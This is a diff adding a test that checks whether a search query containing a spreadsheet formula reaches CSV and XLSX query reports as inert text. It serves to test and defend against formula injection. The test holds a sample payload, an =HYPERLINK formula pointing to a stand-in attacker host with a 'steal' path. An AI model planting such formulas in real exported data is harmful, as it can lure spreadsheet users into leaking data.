@@ -243,3 +243,24 @@ describe('reports', () => {
   });
 
 });
+
+describe('report files and what strangers type', () => {
+  it('an anonymous search for =HYPERLINK(…) reaches the queries report as text: with a leading apostrophe in CSV, a string cell in XLSX', async () => {
+    const attack = '=HYPERLINK("http://evil.example/steal","Открыть")';
+    await ask('query($q: String) { search(query: $q) { totalCount } }', { q: attack });
+    await app.files.usage.flush();
+    const auth = { authorization: `Bearer ${methodist}` };
+    const period = `from=${today()}&to=${today()}`;
+
+    const csv = await (await fetch(`${app.url}/reports/queries.csv?${period}`, { headers: auth })).text();
+    const line = csv.split('\r\n').find((l) => l.includes('evil.example'));
+    expect(line).toMatch(/^"'=hyperlink\(""http:\/\/evil\.example\/steal"",""открыть""\)";1;[01]$/);
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(await (await fetch(`${app.url}/reports/queries.xlsx?${period}`, { headers: auth })).arrayBuffer()) as never);
+    const cell = workbook.worksheets[0]!.getColumn(1).values.indexOf('=hyperlink("http://evil.example/steal","открыть")');
+    expect(cell).toBeGreaterThan(2);
+    expect(workbook.worksheets[0]!.getCell(cell, 1).type).toBe(ExcelJS.ValueType.String);
+    expect(workbook.worksheets[0]!.getCell(cell, 2).value).toBe(1);
+  });
+});
